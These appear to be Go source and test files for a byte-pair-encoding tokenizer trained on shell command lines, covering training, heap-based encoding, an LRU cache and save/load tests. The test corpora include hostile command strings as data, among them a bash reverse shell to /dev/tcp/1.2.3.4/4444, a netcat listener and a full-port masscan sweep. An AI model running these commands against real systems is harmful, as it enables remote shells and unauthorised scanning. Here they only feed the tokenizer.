// TestEncodeSteadyStateAllocs pins the tentpole's zero-alloc claim: once a
// line's pre-tokens are cached and the destination has capacity, EncodeInto
// and AppendForModel allocate nothing, and EncodeForModel's only allocation
// is its return slice.
func TestEncodeSteadyStateAllocs(t *testing.T) {
	tok := trainSample(t, 800)
	line := "docker run --rm -it -v /srv/data:/data ubuntu bash -c 'ls -la /data'"
	tok.Encode(line) // warm the word cache
	buf := make([]int, 0, 256)

	if n := testing.AllocsPerRun(100, func() { buf = tok.EncodeInto(buf[:0], line) }); n != 0 {
		t.Errorf("EncodeInto warm allocs/op = %v, want 0", n)
	}
	if n := testing.AllocsPerRun(100, func() { buf = tok.AppendForModel(buf[:0], line, 64) }); n != 0 {
		t.Errorf("AppendForModel warm allocs/op = %v, want 0", n)
	}
	if n := testing.AllocsPerRun(100, func() { tok.EncodeForModel(line, 64) }); n != 1 {
		t.Errorf("EncodeForModel warm allocs/op = %v, want 1 (the return slice)", n)
	}
}

// TestWordCacheBounded replaces the old wholesale-reset memory bound with a
// real LRU: the cache never exceeds its capacity and evicts least-recently
// used entries first.
func TestWordCacheBounded(t *testing.T) {
	c := newWordCache(wordCacheShards * 4) // 4 entries per shard
	for i := 0; i < 10*wordCacheShards*4; i++ {
		c.put(wordKey{w: fmt.Sprintf("w%04d", i)}, []int32{int32(i)})
	}
	if got, max := c.len(), wordCacheShards*4; got > max {
		t.Fatalf("cache holds %d entries, cap %d", got, max)
	}
}

func TestWordCacheLRUOrder(t *testing.T) {
	c := newWordCache(wordCacheShards) // 1 entry per shard
	a := wordKey{w: "alpha"}
	b := wordKey{w: "beta"}
	s := c.shard(a)
	if c.shard(b) != s {
		// Find a colliding key so both land in one single-entry shard.
		for i := 0; ; i++ {
			b = wordKey{w: fmt.Sprintf("beta%d", i)}
			if c.shard(b) == s {
				break
			}
		}
	}
	c.put(a, []int32{1})
	c.put(b, []int32{2}) // evicts a (cap 1)
	if _, ok := c.get(a); ok {
		t.Fatal("oldest entry not evicted")
	}
	if ids, ok := c.get(b); !ok || ids[0] != 2 {
		t.Fatal("newest entry lost")
	}
}

func TestResetEncodeCache(t *testing.T) {
	tok := trainSample(t, 500)
	tok.Encode("ls -la /tmp")
	if tok.cache.Load().len() == 0 {
		t.Fatal("encode did not populate the word cache")
	}
	tok.ResetEncodeCache()
	if n := tok.cache.Load().len(); n != 0 {
		t.Fatalf("cache holds %d entries after reset", n)
	}
	// Encoding still works and refills.
	want := refEncode(tok, "ls -la /tmp")
	if got := tok.Encode("ls -la /tmp"); !reflect.DeepEqual(got, want) {
		t.Fatalf("post-reset encode = %v, want %v", got, want)
	}
}

// TestEncodeConcurrent hammers one tokenizer from many goroutines while the
// cache is being reset; meaningful under -race (the bpe package is in the
// CI race step).
func TestEncodeConcurrent(t *testing.T) {
	tok := trainSample(t, 600)
	lines := append([]string{}, sampleCorpus...)
	want := make([][]int, len(lines))
	for i, line := range lines {
		want[i] = refEncode(tok, line)
	}
	done := make(chan error, 8)
	for g := 0; g < 8; g++ {
		go func(g int) {
			buf := make([]int, 0, 128)
			for iter := 0; iter < 200; iter++ {
				if g == 0 && iter%50 == 0 {
					tok.ResetEncodeCache()
				}
				i := (g + iter) % len(lines)
				buf = tok.EncodeInto(buf[:0], lines[i])
				if !reflect.DeepEqual(append([]int{}, buf...), want[i]) {
					done <- fmt.Errorf("goroutine %d: encode %q = %v, want %v", g, lines[i], buf, want[i])
					return
				}
			}
			done <- nil
		}(g)
	}
	for g := 0; g < 8; g++ {
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
}

// BenchmarkEncodeUnique measures the cold path proper: every word is a cache
// miss, so the merge loop and scratch pooling dominate.
func BenchmarkEncodeUnique(b *testing.B) {
	tok := trainSample(b, 800)
	lines := make([]string, 4096)
	for i := range lines {
		lines[i] = fmt.Sprintf("cmd%04x --flag-%d /path/%d/file%d.log host%d:%d", i, i, i*7, i, i%251, 1024+i)
	}
	b.ReportAllocs()
	b.ResetTimer()
	buf := make([]int, 0, 256)
	for i := 0; i < b.N; i++ {
		if i%len(lines) == 0 {
			tok.ResetEncodeCache()
		}
		buf = tok.EncodeInto(buf[:0], lines[i%len(lines)])
	}
}
