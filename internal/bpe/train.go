package bpe

import (
	"fmt"
	"sort"
)

// TrainConfig controls BPE vocabulary learning.
type TrainConfig struct {
	// VocabSize is the target total vocabulary size (specials + 256 byte
	// symbols + learned merges). The paper uses 50 000; small corpora use
	// proportionally smaller values.
	VocabSize int
	// MinPairFreq stops merging when the most frequent remaining pair occurs
	// fewer than this many times. Zero means 2.
	MinPairFreq int
}

func (c *TrainConfig) withDefaults() TrainConfig {
	out := *c
	if out.VocabSize < baseVocab {
		out.VocabSize = baseVocab
	}
	if out.MinPairFreq <= 0 {
		out.MinPairFreq = 2
	}
	return out
}

// trainWord is one distinct pre-token with its corpus frequency.
type trainWord struct {
	symbols []string
	freq    int
}

// Train learns a BPE vocabulary from a corpus of command lines.
// Training is deterministic: ties between equally frequent pairs are broken
// lexicographically.
func Train(corpus []string, cfg TrainConfig) (*Tokenizer, error) {
	c := cfg.withDefaults()
	if len(corpus) == 0 {
		return nil, fmt.Errorf("bpe: empty training corpus")
	}
	t := newSeeded()

	// Count distinct pre-tokens.
	wordFreq := make(map[string]int)
	for _, line := range corpus {
		for _, w := range Pretokenize(line) {
			wordFreq[w]++
		}
	}
	words := make([]trainWord, 0, len(wordFreq))
	// Stable ordering of words keeps pair indices deterministic.
	keys := make([]string, 0, len(wordFreq))
	for w := range wordFreq {
		keys = append(keys, w)
	}
	sort.Strings(keys)
	for _, w := range keys {
		syms := make([]string, 0, len(w))
		for i := 0; i < len(w); i++ {
			syms = append(syms, w[i:i+1])
		}
		words = append(words, trainWord{symbols: syms, freq: wordFreq[w]})
	}

	// pairFreq counts weighted occurrences of each adjacent pair;
	// pairWords indexes which words currently contain each pair.
	pairFreq := make(map[pair]int)
	pairWords := make(map[pair]map[int]bool)
	addPair := func(p pair, wi, n int) {
		pairFreq[p] += n
		set := pairWords[p]
		if set == nil {
			set = make(map[int]bool)
			pairWords[p] = set
		}
		set[wi] = true
	}
	removePair := func(p pair, wi, n int) {
		pairFreq[p] -= n
		if pairFreq[p] <= 0 {
			delete(pairFreq, p)
			delete(pairWords, p)
		}
	}
	for wi, w := range words {
		for i := 0; i < len(w.symbols)-1; i++ {
			addPair(pair{w.symbols[i], w.symbols[i+1]}, wi, w.freq)
		}
	}

	nMerges := c.VocabSize - baseVocab
	for m := 0; m < nMerges; m++ {
		best, bestFreq := bestPair(pairFreq)
		if bestFreq < c.MinPairFreq {
			break
		}
		merged := best.a + best.b
		t.ranks[best] = len(t.ranks)
		if _, exists := t.vocab[merged]; !exists {
			t.vocab[merged] = len(t.inv)
			t.inv = append(t.inv, merged)
		}

		// Rewrite only the words that contain the merged pair.
		affected := make([]int, 0, len(pairWords[best]))
		for wi := range pairWords[best] {
			affected = append(affected, wi)
		}
		sort.Ints(affected)
		for _, wi := range affected {
			w := &words[wi]
			syms := w.symbols
			for i := 0; i < len(syms)-1; i++ {
				if syms[i] != best.a || syms[i+1] != best.b {
					continue
				}
				// Update neighbouring pair counts around position i.
				if i > 0 {
					removePair(pair{syms[i-1], syms[i]}, wi, w.freq)
					addPair(pair{syms[i-1], merged}, wi, w.freq)
				}
				if i+2 < len(syms) {
					removePair(pair{syms[i+1], syms[i+2]}, wi, w.freq)
					addPair(pair{merged, syms[i+2]}, wi, w.freq)
				}
				removePair(pair{syms[i], syms[i+1]}, wi, w.freq)
				syms[i] = merged
				syms = append(syms[:i+1], syms[i+2:]...)
			}
			w.symbols = syms
		}
		delete(pairFreq, best)
		delete(pairWords, best)
	}
	// Compile the learned merges into the integer-keyed encode tables.
	t.finalize()
	return t, nil
}

// bestPair returns the most frequent pair; ties break lexicographically so
// training is deterministic across runs and platforms.
func bestPair(pairFreq map[pair]int) (pair, int) {
	var best pair
	bestFreq := -1
	for p, f := range pairFreq {
		if f > bestFreq {
			best, bestFreq = p, f
			continue
		}
		if f == bestFreq {
			if p.a < best.a || (p.a == best.a && p.b < best.b) {
				best = p
			}
		}
	}
	return best, bestFreq
}
