package bpe

import (
	"bytes"
	"strings"
	"testing"
)

// trainWeird builds a tokenizer over a corpus engineered to push hostile
// content into the vocabulary and merge tables: embedded double quotes,
// backslashes, unicode (multi-byte runes the byte-level BPE splits and
// re-merges), and control-ish punctuation — the characters most likely to
// break a quoting-based on-disk format.
func trainWeird(t *testing.T) *Tokenizer {
	t.Helper()
	var lines []string
	for i := 0; i < 40; i++ {
		lines = append(lines,
			`echo "quoted \"payload\" with spaces"`,
			`grep -P '\\\\server\\share' /etc/fstab`,
			"curl https://例え.jp/путь/файл?q=naïve#ß",
			"printf '%s\\n' \"$HOME\"",
			`awk '{print "col:" $1}' data.csv`,
		)
	}
	tok, err := Train(lines, TrainConfig{VocabSize: 420})
	if err != nil {
		t.Fatal(err)
	}
	if tok.NumMerges() == 0 {
		t.Fatal("fixture produced no merges; adversarial round-trip needs them")
	}
	return tok
}

// TestSaveLoadAdversarialTokens: quoting survives quotes, backslashes, and
// multi-byte unicode in both the vocabulary and the merge list, and the
// reloaded tokenizer encodes identically.
func TestSaveLoadAdversarialTokens(t *testing.T) {
	tok := trainWeird(t)
	var buf bytes.Buffer
	if err := tok.Save(&buf); err != nil {
		t.Fatalf("Save: %v", err)
	}
	loaded, err := Load(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	if loaded.VocabSize() != tok.VocabSize() || loaded.NumMerges() != tok.NumMerges() {
		t.Fatalf("size drift: vocab %d->%d merges %d->%d",
			tok.VocabSize(), loaded.VocabSize(), tok.NumMerges(), loaded.NumMerges())
	}
	probes := []string{
		`echo "quoted \"payload\" with spaces"`,
		"curl https://例え.jp/путь/файл?q=naïve#ß",
		`grep -P '\\\\server\\share' nofile`,
		"plain ls -la",
		"", // zero-length line
	}
	for _, p := range probes {
		a, b := tok.Encode(p), loaded.Encode(p)
		if len(a) != len(b) {
			t.Fatalf("probe %q: %d vs %d tokens after reload", p, len(a), len(b))
		}
		for i := range a {
			if a[i] != b[i] {
				t.Fatalf("probe %q: token %d diverges (%d vs %d)", p, i, a[i], b[i])
			}
		}
	}
	// Round-trip is idempotent at the byte level: save(load(save(x))) ==
	// save(x), the property bundle checksums rely on.
	var buf2 bytes.Buffer
	if err := loaded.Save(&buf2); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(buf.Bytes(), buf2.Bytes()) {
		t.Fatal("re-saving a loaded tokenizer changed the bytes")
	}
}

// TestLoadTruncatedStreams: cutting the stream at every structural
// boundary (and a few byte offsets inside lines) returns an error —
// never a panic, never a silently smaller tokenizer.
func TestLoadTruncatedStreams(t *testing.T) {
	tok := trainWeird(t)
	var buf bytes.Buffer
	if err := tok.Save(&buf); err != nil {
		t.Fatal(err)
	}
	full := buf.Bytes()
	cuts := []int{0, 1, len("clmids-bpe v1"), len(full) / 4, len(full) / 2, len(full) - 2}
	for _, n := range cuts {
		if _, err := Load(bytes.NewReader(full[:n])); err == nil {
			t.Errorf("truncation to %d/%d bytes accepted", n, len(full))
		}
	}
	// Cutting mid-line through the merges section as well.
	idx := bytes.LastIndex(full, []byte("\n"))
	if _, err := Load(bytes.NewReader(full[:idx-3])); err == nil {
		t.Error("mid-merge truncation accepted")
	}
}

// TestLoadZeroMergeSection: a tokenizer with an empty merge list (vocab =
// base bytes only) is a legal file, not a corrupt one.
func TestLoadZeroMergeSection(t *testing.T) {
	tok, err := Train([]string{"a b c"}, TrainConfig{VocabSize: baseVocab})
	if err != nil {
		t.Fatal(err)
	}
	if tok.NumMerges() != 0 {
		t.Skipf("fixture unexpectedly learned %d merges", tok.NumMerges())
	}
	var buf bytes.Buffer
	if err := tok.Save(&buf); err != nil {
		t.Fatal(err)
	}
	loaded, err := Load(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("zero-merge tokenizer rejected: %v", err)
	}
	if loaded.VocabSize() != tok.VocabSize() {
		t.Fatalf("vocab %d, want %d", loaded.VocabSize(), tok.VocabSize())
	}
}

// TestLoadMalformedQuoting: hostile hand-written files error cleanly.
func TestLoadMalformedQuoting(t *testing.T) {
	tok := trainWeird(t)
	var buf bytes.Buffer
	if err := tok.Save(&buf); err != nil {
		t.Fatal(err)
	}
	text := buf.String()

	mutations := map[string]func(string) string{
		"unterminated token quote": func(s string) string {
			return strings.Replace(s, "\"a\"", "\"a", 1)
		},
		"merge missing second half": func(s string) string {
			lines := strings.Split(s, "\n")
			for i, l := range lines {
				if strings.HasPrefix(l, "merges ") && i+1 < len(lines) {
					lines[i+1] = strings.SplitN(lines[i+1], " ", 2)[0]
					break
				}
			}
			return strings.Join(lines, "\n")
		},
		"negative vocab": func(s string) string {
			return strings.Replace(s, "vocab ", "vocab -", 1)
		},
		"vocab overflow claim": func(s string) string {
			lines := strings.Split(s, "\n")
			lines[1] = "vocab 999999999"
			return strings.Join(lines, "\n")
		},
	}
	for name, mutate := range mutations {
		if _, err := Load(strings.NewReader(mutate(text))); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}
