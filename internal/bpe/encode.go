package bpe

import (
	"strings"
	"sync"
	"unicode"
	"unicode/utf8"
)

// The encode hot path. The original implementation kept symbols as Go
// strings and re-scanned every adjacent pair per merge (O(n²) with a string
// concatenation per merge); this one works on integer symbol IDs with a
// min-heap of merge candidates ordered by (rank, position), so each word is
// O(n log n) with zero string building. All per-word state lives in a
// pooled scratch arena and encoded words land in a bounded sharded LRU, so
// steady-state encoding through EncodeInto allocates nothing.
//
// Output equivalence with the old path is exact: the old loop applied the
// lowest-rank merge at its leftmost occurrence and rescanned; popping
// (rank, leftPos) from the heap — positions are original byte indices,
// which stay monotone along the linked list — replays the same merge order,
// and a corpus-wide golden test pins it.

// mergeVal is the compiled form of one learned merge: its priority and the
// token ID the pair fuses into.
type mergeVal struct {
	rank int32
	id   int32
}

// mergeKey packs an adjacent symbol-ID pair into one map key. Token IDs are
// bounded by the load-time vocab cap (1<<24), so 32 bits per side suffice.
func mergeKey(a, b int32) uint64 {
	return uint64(uint32(a))<<32 | uint64(uint32(b))
}

// finalize compiles the string-keyed rank table into the integer merge
// table and resets the word cache and scratch pool. It runs after Train and
// Load (and on the seed tokenizer), so every served Tokenizer has the
// compiled tables; merges whose operands are not in the vocabulary are
// unreachable (every symbol the encoder can form is a byte or a learned
// token) and are dropped.
func (t *Tokenizer) finalize() {
	t.merges = make(map[uint64]mergeVal, len(t.ranks))
	for p, r := range t.ranks {
		a, aok := t.vocab[p.a]
		b, bok := t.vocab[p.b]
		m, mok := t.vocab[p.a+p.b]
		if !aok || !bok || !mok {
			continue
		}
		t.merges[mergeKey(int32(a), int32(b))] = mergeVal{rank: int32(r), id: int32(m)}
	}
	// Index vocabulary tokens that cover a whole pre-token, for the
	// estimator's single-probe "this field is one token" feature. Learned
	// tokens contain a space only as the GPT-2-style prefix, so stripping it
	// keys the table by bare field bytes.
	t.wholeWords = make(map[string]uint8, len(t.inv))
	t.twoGram = [1024]uint64{}
	t.maxTokLen = 0
	for i := NumSpecials; i < len(t.inv); i++ {
		s := t.inv[i]
		// Key the table by bare field bytes: learned tokens contain a space
		// only as the GPT-2-style prefix. The estimator's greedy parse probes
		// the same table mid-word, so the bits mean "token in this space
		// form", not only "whole pre-token".
		bare := s
		if len(s) > 1 && s[0] == ' ' {
			t.wholeWords[s[1:]] |= wholeWithSpace
			bare = s[1:]
		} else if !strings.Contains(s, " ") {
			t.wholeWords[s] |= wholeBare
		} else {
			continue
		}
		if len(bare) > t.maxTokLen {
			t.maxTokLen = len(bare)
		}
		// The bigram bitmap backs the estimator's compressibility feature:
		// bit (a<<8|b) set means bytes a,b fuse into one learned token.
		if len(s) == 2 && s[0] != ' ' {
			idx := uint32(s[0])<<8 | uint32(s[1])
			t.twoGram[idx>>6] |= 1 << (idx & 63)
		}
	}
	// Cap the estimator's greedy-parse probe depth: beyond this, longer
	// vocabulary tokens are rare enough that extra probes cost more than
	// the accuracy they buy.
	if t.maxTokLen > 32 {
		t.maxTokLen = 32
	}
	t.cache.Store(newWordCache(wordCacheCap))
	t.scratch = sync.Pool{New: func() any { return new(encodeScratch) }}
}

// Whole-word table flags: which space forms of a field are single tokens.
const (
	wholeBare      = uint8(1) // the bare field is one token (first field of a line)
	wholeWithSpace = uint8(2) // " "+field is one token (every later field)
)

// spaceSymID is the byte symbol every non-first pre-token starts with.
const spaceSymID = int32(NumSpecials + ' ')

// heapEnt is one merge candidate: the pair's rank and the original index of
// its left symbol. The heap orders by (rank, pos); stale entries (the pair
// at pos changed or died) are rejected at pop time by re-checking the rank.
type heapEnt struct {
	rank, pos int32
}

// encodeScratch is the reusable per-word state of the merge loop: symbol
// IDs, the doubly-linked list over them, and the candidate heap. One
// scratch serves one word at a time; EncodeInto borrows one from the
// tokenizer's pool on the first cache miss of a call.
type encodeScratch struct {
	syms []int32 // symbol ID per node; -1 marks a merged-away node
	next []int32 // linked list over live nodes; -1 terminates
	prev []int32
	heap []heapEnt
}

// ensure sizes the node arrays for n symbols.
func (sc *encodeScratch) ensure(n int) {
	if cap(sc.syms) >= n {
		return
	}
	c := cap(sc.syms) * 2
	if c < n {
		c = n
	}
	if c < 64 {
		c = 64
	}
	sc.syms = make([]int32, c)
	sc.next = make([]int32, c)
	sc.prev = make([]int32, c)
}

// push adds a candidate, restoring the (rank, pos) min-heap order.
func (sc *encodeScratch) push(e heapEnt) {
	h := append(sc.heap, e)
	i := len(h) - 1
	for i > 0 {
		p := (i - 1) / 2
		if h[p].rank < h[i].rank || (h[p].rank == h[i].rank && h[p].pos <= h[i].pos) {
			break
		}
		h[p], h[i] = h[i], h[p]
		i = p
	}
	sc.heap = h
}

// pop removes and returns the minimum candidate.
func (sc *encodeScratch) pop() heapEnt {
	h := sc.heap
	top := h[0]
	last := len(h) - 1
	h[0] = h[last]
	h = h[:last]
	i := 0
	for {
		l, r := 2*i+1, 2*i+2
		min := i
		if l < len(h) && (h[l].rank < h[min].rank || (h[l].rank == h[min].rank && h[l].pos < h[min].pos)) {
			min = l
		}
		if r < len(h) && (h[r].rank < h[min].rank || (h[r].rank == h[min].rank && h[r].pos < h[min].pos)) {
			min = r
		}
		if min == i {
			break
		}
		h[i], h[min] = h[min], h[i]
		i = min
	}
	sc.heap = h
	return top
}

// encodeCold runs the merge loop for one pre-token (field, optionally
// carrying its preceding space) and returns a freshly allocated ID slice
// for insertion into the word cache. Only cache misses reach here.
func (t *Tokenizer) encodeCold(sc *encodeScratch, field string, withSpace bool) []int32 {
	n := len(field)
	if withSpace {
		n++
	}
	sc.ensure(n)
	syms, next, prev := sc.syms[:n], sc.next[:n], sc.prev[:n]
	i := 0
	if withSpace {
		syms[0] = spaceSymID
		i = 1
	}
	for j := 0; j < len(field); j++ {
		syms[i] = int32(NumSpecials) + int32(field[j])
		i++
	}
	for p := 0; p < n; p++ {
		next[p] = int32(p + 1)
		prev[p] = int32(p - 1)
	}
	next[n-1] = -1

	sc.heap = sc.heap[:0]
	for p := 0; p+1 < n; p++ {
		if v, ok := t.merges[mergeKey(syms[p], syms[p+1])]; ok {
			sc.push(heapEnt{rank: v.rank, pos: int32(p)})
		}
	}
	live := n
	for len(sc.heap) > 0 {
		e := sc.pop()
		p := e.pos
		if syms[p] < 0 {
			continue // left node merged away
		}
		q := next[p]
		if q < 0 {
			continue // pair dissolved: p became the tail
		}
		v, ok := t.merges[mergeKey(syms[p], syms[q])]
		if !ok || v.rank != e.rank {
			continue // stale: the pair at pos changed since the push
		}
		// Merge q into p and relink.
		syms[p] = v.id
		syms[q] = -1
		nq := next[q]
		next[p] = nq
		if nq >= 0 {
			prev[nq] = p
		}
		live--
		// The two adjacencies the merge created are the only new candidates.
		if pp := prev[p]; pp >= 0 {
			if nv, ok := t.merges[mergeKey(syms[pp], syms[p])]; ok {
				sc.push(heapEnt{rank: nv.rank, pos: pp})
			}
		}
		if nq >= 0 {
			if nv, ok := t.merges[mergeKey(syms[p], syms[nq])]; ok {
				sc.push(heapEnt{rank: nv.rank, pos: p})
			}
		}
	}

	out := make([]int32, 0, live)
	for p := int32(0); p >= 0; p = next[p] {
		out = append(out, syms[p])
	}
	return out
}

// appendWord appends one pre-token's IDs to dst, serving from the word
// cache when possible. sc is the caller's borrowed scratch, created lazily
// on the first miss and returned unchanged otherwise.
func (t *Tokenizer) appendWord(dst []int, field string, withSpace bool, sc *encodeScratch) ([]int, *encodeScratch) {
	key := wordKey{w: field, sp: withSpace}
	cache := t.cache.Load()
	ids, ok := cache.get(key)
	if !ok {
		if sc == nil {
			sc = t.scratch.Get().(*encodeScratch)
		}
		ids = t.encodeCold(sc, field, withSpace)
		cache.put(key, ids)
	}
	for _, id := range ids {
		dst = append(dst, int(id))
	}
	return dst, sc
}

// appendEncoded tokenizes line and appends its IDs to dst, stopping early
// once at least limit IDs have been appended this call (limit < 0 disables
// the cap). Fields are iterated in place with the same Unicode-whitespace
// boundaries as strings.Fields, so no pre-token slice is ever built.
func (t *Tokenizer) appendEncoded(dst []int, line string, limit int) []int {
	start := len(dst)
	var sc *encodeScratch
	first := true
	for i := 0; i < len(line); {
		r, size := rune(line[i]), 1
		if r >= utf8.RuneSelf {
			r, size = utf8.DecodeRuneInString(line[i:])
		}
		if unicode.IsSpace(r) {
			i += size
			continue
		}
		j := i + size
		for j < len(line) {
			r, size = rune(line[j]), 1
			if r >= utf8.RuneSelf {
				r, size = utf8.DecodeRuneInString(line[j:])
			}
			if unicode.IsSpace(r) {
				break
			}
			j += size
		}
		dst, sc = t.appendWord(dst, line[i:j], !first, sc)
		first = false
		i = j
		if limit >= 0 && len(dst)-start >= limit {
			break
		}
	}
	if sc != nil {
		t.scratch.Put(sc)
	}
	return dst
}

// Word-cache geometry: wordCacheCap bounds total entries across all shards
// (replacing the old wholesale map reset at the same size), and the shard
// count keeps concurrent encoders from serializing on one LRU mutex.
const (
	wordCacheCap    = 1 << 18
	wordCacheShards = 8
)

// wordKey identifies a cached pre-token: the field bytes plus whether the
// word carries its preceding space (the space changes the merge sequence).
// Keying on the two parts — instead of materializing " "+field — is what
// lets cache probes run without allocating.
type wordKey struct {
	w  string
	sp bool
}

// wordCache is a sharded, bounded LRU of encoded pre-tokens.
type wordCache struct {
	shards [wordCacheShards]wcShard
}

type wcShard struct {
	mu    sync.Mutex
	cap   int
	items map[wordKey]*wcEnt
	head  *wcEnt
	tail  *wcEnt
}

type wcEnt struct {
	key        wordKey
	ids        []int32
	prev, next *wcEnt
}

func newWordCache(capacity int) *wordCache {
	perShard := capacity / wordCacheShards
	if perShard < 1 {
		perShard = 1
	}
	c := &wordCache{}
	for i := range c.shards {
		c.shards[i].cap = perShard
		c.shards[i].items = make(map[wordKey]*wcEnt)
	}
	return c
}

// shard picks the LRU shard for a key (FNV-1a over the field bytes).
func (c *wordCache) shard(key wordKey) *wcShard {
	h := uint32(2166136261)
	for i := 0; i < len(key.w); i++ {
		h ^= uint32(key.w[i])
		h *= 16777619
	}
	if key.sp {
		h ^= 1
	}
	return &c.shards[h%wordCacheShards]
}

// get returns the cached IDs (shared, read-only) and refreshes recency.
func (c *wordCache) get(key wordKey) ([]int32, bool) {
	s := c.shard(key)
	s.mu.Lock()
	defer s.mu.Unlock()
	ent, ok := s.items[key]
	if !ok {
		return nil, false
	}
	s.moveToFront(ent)
	return ent.ids, true
}

// peek returns the token count cached for key without touching recency —
// the estimator's exactness probe; it must not perturb eviction order.
func (c *wordCache) peek(key wordKey) (int, bool) {
	s := c.shard(key)
	s.mu.Lock()
	defer s.mu.Unlock()
	ent, ok := s.items[key]
	if !ok {
		return 0, false
	}
	return len(ent.ids), true
}

// put inserts ids under key, evicting the shard's least-recently-used entry
// when full. The key's field string is cloned so a cache entry never pins
// the log line it was sliced from; ids is stored as-is and must not be
// mutated afterwards (encodeCold hands over a fresh slice).
func (c *wordCache) put(key wordKey, ids []int32) {
	s := c.shard(key)
	s.mu.Lock()
	defer s.mu.Unlock()
	if ent, ok := s.items[key]; ok {
		s.moveToFront(ent)
		return
	}
	ent := &wcEnt{key: wordKey{w: strings.Clone(key.w), sp: key.sp}, ids: ids}
	s.items[ent.key] = ent
	s.pushFront(ent)
	if len(s.items) > s.cap {
		lru := s.tail
		s.unlink(lru)
		delete(s.items, lru.key)
	}
}

// len reports live entries across all shards (test hook).
func (c *wordCache) len() int {
	total := 0
	for i := range c.shards {
		s := &c.shards[i]
		s.mu.Lock()
		total += len(s.items)
		s.mu.Unlock()
	}
	return total
}

func (s *wcShard) pushFront(ent *wcEnt) {
	ent.prev = nil
	ent.next = s.head
	if s.head != nil {
		s.head.prev = ent
	}
	s.head = ent
	if s.tail == nil {
		s.tail = ent
	}
}

func (s *wcShard) unlink(ent *wcEnt) {
	if ent.prev != nil {
		ent.prev.next = ent.next
	} else {
		s.head = ent.next
	}
	if ent.next != nil {
		ent.next.prev = ent.prev
	} else {
		s.tail = ent.prev
	}
	ent.prev, ent.next = nil, nil
}

func (s *wcShard) moveToFront(ent *wcEnt) {
	if s.head == ent {
		return
	}
	s.unlink(ent)
	s.pushFront(ent)
}
