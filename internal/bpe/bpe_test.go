package bpe

import (
	"bytes"
	"math/rand"
	"reflect"
	"strings"
	"testing"
	"testing/quick"
)

var sampleCorpus = []string{
	"ls -la /tmp",
	"ls -la /var/log",
	"cat /var/log/syslog",
	"grep -i error /var/log/syslog",
	"docker ps -a",
	"docker run --rm -it ubuntu bash",
	"python main.py",
	"python3 -m http.server 8000",
	"curl -fsSL https://get.example.com/install.sh",
	"curl https://mirror.example.com/pkg.tar.gz -o pkg.tar.gz",
	"nc -lvnp 4444",
	"chmod +x run.sh",
	"echo hello world",
	"df -h",
	"ps aux",
	"watch -n 1 nvidia-smi",
}

func trainSample(t testing.TB, vocab int) *Tokenizer {
	t.Helper()
	tok, err := Train(sampleCorpus, TrainConfig{VocabSize: vocab, MinPairFreq: 2})
	if err != nil {
		t.Fatalf("Train: %v", err)
	}
	return tok
}

func TestTrainBasics(t *testing.T) {
	tok := trainSample(t, 400)
	if tok.VocabSize() < baseVocab {
		t.Fatalf("vocab size %d < base %d", tok.VocabSize(), baseVocab)
	}
	if tok.VocabSize() > 400 {
		t.Fatalf("vocab size %d exceeds target", tok.VocabSize())
	}
	if tok.NumMerges() == 0 {
		t.Fatal("no merges learned")
	}
}

func TestTrainEmptyCorpus(t *testing.T) {
	if _, err := Train(nil, TrainConfig{VocabSize: 300}); err == nil {
		t.Fatal("expected error on empty corpus")
	}
}

func TestEncodeDecodeRoundTrip(t *testing.T) {
	tok := trainSample(t, 500)
	lines := append([]string{}, sampleCorpus...)
	lines = append(lines,
		"completely unseen command --with-flags /and/paths",
		"masscan 10.0.0.1 -p 0-65535 --rate=1000",
		"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
	)
	for _, line := range lines {
		norm := strings.Join(strings.Fields(line), " ")
		got := tok.Decode(tok.Encode(line))
		if got != norm {
			t.Errorf("round trip %q -> %q", norm, got)
		}
	}
}

func TestEncodeDeterministic(t *testing.T) {
	tok := trainSample(t, 500)
	a := tok.Encode("docker run --rm -it ubuntu bash")
	b := tok.Encode("docker run --rm -it ubuntu bash")
	if !reflect.DeepEqual(a, b) {
		t.Fatalf("non-deterministic encoding: %v vs %v", a, b)
	}
}

func TestTrainDeterministic(t *testing.T) {
	t1 := trainSample(t, 450)
	t2 := trainSample(t, 450)
	if t1.VocabSize() != t2.VocabSize() {
		t.Fatalf("vocab sizes differ: %d vs %d", t1.VocabSize(), t2.VocabSize())
	}
	for i := 0; i < t1.VocabSize(); i++ {
		if t1.Token(i) != t2.Token(i) {
			t.Fatalf("token %d differs: %q vs %q", i, t1.Token(i), t2.Token(i))
		}
	}
}

func TestMergesCompress(t *testing.T) {
	tok := trainSample(t, 600)
	line := "docker run --rm -it ubuntu bash"
	ids := tok.Encode(line)
	// Byte-level baseline would be one token per byte (spaces included in
	// the following word). Learned merges must compress.
	if len(ids) >= len(line) {
		t.Fatalf("no compression: %d tokens for %d bytes", len(ids), len(line))
	}
}

func TestEncodeForModel(t *testing.T) {
	tok := trainSample(t, 400)
	ids := tok.EncodeForModel("ls -la /tmp", 16)
	if ids[0] != ClsID {
		t.Errorf("first token = %d, want CLS", ids[0])
	}
	if ids[len(ids)-1] != SepID {
		t.Errorf("last token = %d, want SEP", ids[len(ids)-1])
	}
	// Truncation.
	long := strings.Repeat("verylongword ", 50)
	ids = tok.EncodeForModel(long, 16)
	if len(ids) != 16 {
		t.Errorf("truncated length = %d, want 16", len(ids))
	}
	if ids[0] != ClsID || ids[15] != SepID {
		t.Errorf("truncated specials wrong: %v", ids)
	}
}

func TestPretokenize(t *testing.T) {
	got := Pretokenize("  php -r  \"phpinfo();\" ")
	want := []string{"php", " -r", ` "phpinfo();"`}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("Pretokenize = %q, want %q", got, want)
	}
	if Pretokenize("   ") != nil {
		t.Error("blank line should pretokenize to nil")
	}
}

func TestSpecialTokenIDs(t *testing.T) {
	tok := trainSample(t, 300)
	checks := map[string]int{
		PadToken: PadID, UnkToken: UnkID, ClsToken: ClsID,
		SepToken: SepID, MaskToken: MaskID,
	}
	for s, id := range checks {
		if got := tok.ID(s); got != id {
			t.Errorf("ID(%q) = %d, want %d", s, got, id)
		}
		if !IsSpecial(id) {
			t.Errorf("IsSpecial(%d) = false", id)
		}
	}
	if IsSpecial(NumSpecials) {
		t.Error("first byte symbol reported as special")
	}
	if tok.ID("never-a-token-xyzzy") != UnkID {
		t.Error("unknown token should map to UNK")
	}
}

func TestSaveLoadRoundTrip(t *testing.T) {
	tok := trainSample(t, 500)
